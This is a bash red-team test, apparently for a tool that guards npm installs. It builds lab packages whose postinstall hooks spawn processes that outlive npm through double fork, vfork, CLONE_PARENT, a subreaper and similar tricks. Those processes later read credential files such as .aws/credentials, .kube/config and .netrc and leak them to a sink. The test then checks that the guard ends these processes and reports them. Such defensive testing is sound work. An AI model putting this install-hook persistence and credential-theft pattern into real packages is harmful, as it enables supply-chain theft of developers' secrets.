#!/bin/bash
# R26: double fork, setsid, vfork, CLONE_PARENT, a subreaper, no terminal, no environment: it waits
# until npm is gone, then steals.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R26 'survivors'
gone=$LAB/npm-is-gone
n=0
ways=(all double-fork clone-parent thread vfork subreaper)
files=(.aws/credentials .vault-token .kube/config .docker/config.json .pypirc .netrc)
for way in "${ways[@]}"; do
	rt_package "outlive-$way-x" 1.0.0 - postinstall \
		"export RUNNER_TRACKING_ID=0
		./bin/survive $way $gone '$RT_HOME/${files[n]}' $RT_SINK; true" survive
	n=$((n + 1))
done

rt_control
rt_ok "processes outlive npm: $(lab_survivors | wc -l)" [ "$(lab_survivors | wc -l)" -ge "$n" ]
: >"$gone"
have_stolen() { [ "$(lab_leaked web | grep -cxF "${files[@]/#/-e}")" = "$n" ]; }
rt_eventually 60 have_stolen
rt_leaked "${files[@]}"
rm "$gone"

if rt_guarded; then
	# They have done nothing yet, so nobody is accused; they are ended before they can.
	rt_peaceful
	: >"$gone"
	sleep 2
	rt_silent
	rt_honest_installed
	for way in "${ways[@]}"; do
		rt_ok "outlive-$way-x is reported as left over" \
			rt_events event.action=leftover "package.name=outlive-$way-x"
	done
fi
rt_end
